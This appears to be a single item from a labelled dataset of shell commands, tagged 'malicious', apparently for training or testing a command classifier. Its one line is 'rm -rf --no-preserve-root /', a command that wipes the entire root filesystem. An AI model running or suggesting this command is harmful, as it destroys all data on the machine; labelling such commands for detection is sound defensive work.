# label: malicious
rm -rf --no-preserve-root /
